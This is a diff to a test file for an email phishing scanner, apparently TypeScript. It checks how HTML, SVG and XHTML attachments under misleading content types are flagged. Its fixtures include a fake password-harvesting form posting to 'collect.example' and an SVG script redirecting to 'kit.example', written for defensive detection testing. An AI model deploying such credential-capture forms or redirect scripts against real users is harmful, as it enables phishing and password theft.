@@ -3,7 +3,7 @@ import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import { defaults } from "../config/load";
 import { scan, type Engine } from "../engine/scan";
-import { parseMessageSync } from "../message/parse";
+import { attachedPages, parseMessageSync } from "../message/parse";
 import { builtinDb } from "../ruledb/builtin";
 import { loadRuleDb } from "../ruledb/match";
 import { createPhishingCheck, phishingSymbols } from "./phishing";
@@ -193,6 +193,28 @@ test("a web archive's page (.mht, parsed as an attached message, plain or base64
   // An inline HTML part after the web archive, back at the top level, is the mail's own: its script is no attached page's.
   expect(archiveSigns(msg("Invoice_0412.mht", "--b\nContent-Type: text/html\n\n<p>hi</p><script>track()</script>\n"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
   expect(archiveSigns(msg("Invoice_0412.mht", "--b\nContent-Type: multipart/alternative; boundary=c\n\n--c\nContent-Type: text/html\n\n<p>hi</p><script>track()</script>\n--c--\n"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
+});
+
+test("a page under a type that is not text (an octet stream named .htm, an SVG, XHTML) is judged as an attached page; an SVG drawn inline, a ZIP named .html and a text file are not", () => {
+  const enc = new TextEncoder();
+  const form = enc.encode('<html><body><form action="https://collect.example/p"><input type="password" name="p"></form></body></html>');
+  const svgScript = enc.encode('<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href="https://kit.example/"</script></svg>');
+  expect(archiveSigns(withAttachment(form, "Remittance.htm", "application/octet-stream"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
+  expect(archiveSigns(withAttachment(svgScript, "VM_0042.svg", "image/svg+xml"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_REDIRECT", "ATTACH_HTML_SCRIPT"]);
+  expect(archiveSigns(withAttachment(svgScript, "VM_0042.svg", "application/octet-stream"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_REDIRECT", "ATTACH_HTML_SCRIPT"]);
+  expect(archiveSigns(withAttachment(form, "statement", "application/xhtml+xml"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
+  // Where its form posts joins the message's links.
+  expect(parseMessageSync(withAttachment(form, "Remittance.htm", "application/octet-stream"), defaults().scan).uris).toContain("https://collect.example/p");
+  // A signature's SVG logo shown inline by Content-ID: drawn by the mail reader, never opened as a page.
+  const b64 = Buffer.from(svgScript).toString("base64");
+  const inline = enc.encode(`From: a@sender.example\nTo: user@example.com\nSubject: s\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>Hi</p><img src="cid:logo">\n--b\nContent-Type: image/svg+xml\nContent-ID: <logo>\nContent-Transfer-Encoding: base64\n\n${b64}\n--b--\n`);
+  expect(archiveSigns(inline)).toEqual([]);
+  // Bytes that are an archive are read as one, not as a page; a text file named so is no page.
+  const zip = bytes("fixtures/archives/made/invoice-js.zip");
+  const zipped = withAttachment(zip, "Invoice.html", "application/octet-stream");
+  expect(attachedPages(parseMessageSync(zipped, defaults().scan))).toEqual([]);
+  expect(archiveSigns(zipped)).toContain("ATTACH_ARCHIVE_EXECUTABLE");
+  expect(archiveSigns(withAttachment(form, "notes.txt", "application/octet-stream"))).toEqual([]);
 });
 
 test("the bytes decide: an archive named and typed as a PDF is an archive, and its program is seen", () => {
